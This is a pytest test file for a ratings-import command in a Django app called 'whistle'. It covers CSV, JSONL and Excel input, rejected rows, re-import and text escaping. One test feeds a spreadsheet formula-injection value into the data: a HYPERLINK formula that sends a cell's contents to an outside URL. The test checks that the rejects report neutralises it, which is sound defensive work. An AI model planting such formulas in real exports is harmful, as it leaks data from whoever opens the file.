"""`whistle ratings import` (issue 4, ratings at scale): CSV, JSONL and .xlsx; idempotent on the external id; bad rows
to a rejects file while good rows go in; each batch one transaction with its rollups."""

import csv
import json

import pytest
import xlsxwriter
from django.core.management import call_command

from tests.conftest import at
from whistle.cases.models import Case
from whistle.ratings import rating_rollup
from whistle.ratings.models import Rating
from whistle.ratings.rating_import import COLUMNS, import_file
from whistle.ratings.selectors import rating_summary
from whistle.ratings.services import rating_submit


def rows_for(cadre, window):
    """Twelve rows: seven good, five bad (one reason each), one repeat of a good row."""
    c, w = cadre.card_code, window.card_code
    return [
        ["ext-1", c, "5", "2026-11-03 10:00:00", "qr", "friendly;fast", "很好", "", ""],
        ["ext-2", c, "不满意", "2026-11-30T23:30:00", "网上评价", "办事拖沓", "", "BJ-001", "13900000001"],
        ["ext-3", w, "1", "2026-11-30T16:30:00Z", "device", "", "", "", ""],  # 12-01 00:30 in Beijing
        ["ext-4", w, "3", "2026-11-06 09:00", "", "", "", "", ""],
        ["ext-5", c, "9", "2026-11-06 09:00", "", "", "", "", ""],  # bad level
        ["ext-6", "no-such-card", "4", "2026-11-06 09:00", "", "", "", "", ""],  # unknown card
        ["", c, "4", "2026-11-06 09:00", "", "", "", "", ""],  # no id
        ["ext-8", c, "4", "11/06/2026", "", "", "", "", ""],  # bad time
        ["ext-9", c, "4", "2026-11-06 09:00", "", "", "", "BJ-001", ""],  # case number taken
        ["ext-1", c, "5", "2026-11-03 10:00:00", "qr", "friendly;fast", "很好", "", ""],  # repeat: skipped
        ["ext-11", w, "4", "2026-11-07 09:00", "hotline", "", "", "", "0530-5310001"],
        ["ext-12", c, "2", "2026-11-08 09:00", "", "", "", "LIVE-9", ""],  # rated live already
    ]


EXPECTED_REJECTS = [
    ["6", "ext-5", "评价等级须为1–5或“非常满意”等五级名称：9"],
    ["7", "ext-6", "亮码编号不存在或已停用：no-such-card"],
    ["8", "", "缺少外部评价编号"],
    ["9", "ext-8", "评价时间格式不正确：11/06/2026（应为 2026-11-03 10:00:00 或带时区的 ISO 8601）"],
    ["10", "ext-9", "该办件已评价过（一事一评）"],
    ["13", "ext-12", "该办件已评价过（一事一评）"],
]


def write(path, rows):
    suffix = path.suffix
    if suffix == ".csv":
        with open(path, "w", encoding="utf-8", newline="") as f:
            writer = csv.writer(f)
            writer.writerow(COLUMNS)
            writer.writerows(rows)
    elif suffix == ".jsonl":
        with open(path, "w", encoding="utf-8") as f:
            f.write("\n")  # the header line of a CSV is line 1; a JSONL file here starts with a blank line to match
            for row in rows:
                f.write(json.dumps(dict(zip(COLUMNS, row)), ensure_ascii=False) + "\n")
    else:
        book = xlsxwriter.Workbook(str(path))
        sheet = book.add_worksheet("评价")
        sheet.write_row(0, 0, COLUMNS)
        for n, row in enumerate(rows, start=1):
            sheet.write_row(n, 0, [int(v) if i == 2 and v.isdigit() else v for i, v in enumerate(row)])
        book.close()
    return path


def rejects_of(result):
    with open(result.rejects_path, encoding="utf-8-sig") as f:
        return list(csv.reader(f))


@pytest.fixture
def live_rated(cards):
    cadre, window = cards
    rating_submit(
        cadre, comment="窗口让我跑了三趟", level=4, case_number="LIVE-9", device="d", ip="10.0.0.1", now=at(2026, 11, 2)
    )
    return cadre, window


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".xlsx"])
def test_import_takes_good_rows_rejects_bad_rows_with_line_and_reason(live_rated, tmp_path, suffix):
    cadre, window = live_rated
    path = write(tmp_path / f"ratings{suffix}", rows_for(cadre, window))
    result = import_file(str(path), batch_size=3, progress=False)
    assert (result.rows, result.inserted, result.skipped, result.rejected) == (12, 5, 1, 6)
    assert sorted(rejects_of(result)[1:], key=lambda r: int(r[0])) == EXPECTED_REJECTS
    assert rejects_of(result)[0] == ["行号", "外部评价编号", "原因"]
    two = Rating.objects.get(external_id="ext-2")
    assert (two.level, two.channel, two.tags, two.case_number, two.rater_phone_masked) == (
        2,
        "web",
        ["slow"],
        "BJ-001",
        "139****0001",
    )
    assert two.created_at == at(2026, 11, 30, 23, 30) and two.counted and two.rectification is None
    assert Rating.objects.get(external_id="ext-3").created_at == at(2026, 12, 1, 0, 30)
    assert not Case.objects.exists()  # imported poor ratings open no rectification case
    assert rating_rollup.verify()[1] == []
    assert rating_summary(cadre) == {"count": 3, "good_rate": 66.7, "poor_rate": 33.3, "satisfaction_rate": 66.7}


def test_import_reads_a_csv_saved_by_chinese_excel_in_gb18030(live_rated, tmp_path):
    """What a Chinese Excel saves as "CSV" (and whistle's own CSV exports) is GB18030: the one table reader tells it
    from UTF-8, so the Chinese level, channel and tag names and the comment arrive intact."""
    cadre, window = live_rated
    path = tmp_path / "ratings.csv"
    with open(path, "w", encoding="gb18030", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(COLUMNS)
        writer.writerows(rows_for(cadre, window))
    result = import_file(str(path), batch_size=3, progress=False)
    assert (result.rows, result.inserted, result.skipped, result.rejected) == (12, 5, 1, 6)
    assert sorted(rejects_of(result)[1:], key=lambda r: int(r[0])) == EXPECTED_REJECTS
    two = Rating.objects.get(external_id="ext-2")
    assert (two.level, two.channel, two.tags) == (2, "web", ["slow"])
    assert Rating.objects.get(external_id="ext-1").comment == "很好"


def test_double_import_adds_nothing(live_rated, tmp_path):
    cadre, window = live_rated
    path = str(write(tmp_path / "ratings.csv", rows_for(cadre, window)))
    first = import_file(path, progress=False)
    before = (
        Rating.objects.count(),
        sorted(
            rating_rollup.RatingRollup.objects.values_list("kind", "target_id", "month", "n1", "n2", "n3", "n4", "n5")
        ),
    )
    second = import_file(path, progress=False)
    assert (first.inserted, second.inserted, second.skipped, second.rejected) == (5, 0, 6, 6)
    assert (
        Rating.objects.count(),
        sorted(
            rating_rollup.RatingRollup.objects.values_list("kind", "target_id", "month", "n1", "n2", "n3", "n4", "n5")
        ),
    ) == before
    assert rejects_of(second) == rejects_of(first)


def test_import_command_reports_and_refuses_unknown_formats(live_rated, tmp_path, capsys):
    cadre, window = live_rated
    path = write(tmp_path / "ratings.csv", rows_for(cadre, window))
    call_command("ratings", "import", str(path), "--no-progress", "--rejects", str(tmp_path / "bad.csv"))
    assert (
        f"读入 12 行，新增 5 条，已存在跳过 1 条，问题行 6 条（见 {tmp_path / 'bad.csv'}）" in capsys.readouterr().out
    )
    (tmp_path / "x.txt").write_text("x")
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="只支持"):
        call_command("ratings", "import", str(tmp_path / "x.txt"))
    (tmp_path / "h.csv").write_text("id,level\n1,2\n")
    with pytest.raises(CommandError, match="文件缺少列：external_id、target、rated_at"):
        call_command("ratings", "import", str(tmp_path / "h.csv"))


def test_import_keeps_tabs_newlines_and_backslashes_in_text_exactly(live_rated, tmp_path):
    """On PostgreSQL rows travel as COPY text, where tab, newline, carriage return and backslash are escapes."""
    cadre, window = live_rated
    comment = "第一行\t制表\n第二行\r\n反斜杠\\N 和 \\t"
    rows = [
        ["ext\\1\t", cadre.card_code, "4", "2026-11-03 10:00:00", "", "", comment, "", ""],
        ["ext-2", window.card_code, "5", "2026-11-03 11:00:00", "", "", "  前后空格  ", "", ""],
    ]
    result = import_file(str(write(tmp_path / "text.csv", rows)), progress=False)
    assert (result.inserted, result.rejected) == (2, 0)
    assert Rating.objects.get(external_id="ext\\1").comment == comment
    assert Rating.objects.get(external_id="ext-2").comment == "前后空格"


def test_export_writes_user_text_as_text_in_the_rejects_csv(live_rated, tmp_path):
    """Issue 13.2: the rejects report quotes the file; a cell that Excel would run as a formula is neutralised."""
    cadre, _ = live_rated
    formula = '=HYPERLINK("http://x?"&B2,"点我")'
    rows = [
        [formula, "no-such-card", "4", "2026-11-06 09:00", "", "", "", "", ""],
        ["@SUM(1)", cadre.card_code, "9", "2026-11-06 09:00", "", "", "", "", ""],
    ]
    result = import_file(str(write(tmp_path / "ratings.csv", rows)), progress=False)
    rejects = {r[0]: r[1:] for r in rejects_of(result)[1:]}
    assert rejects["2"] == ["'" + formula, "亮码编号不存在或已停用：no-such-card"]
    assert rejects["3"][0] == "'@SUM(1)"
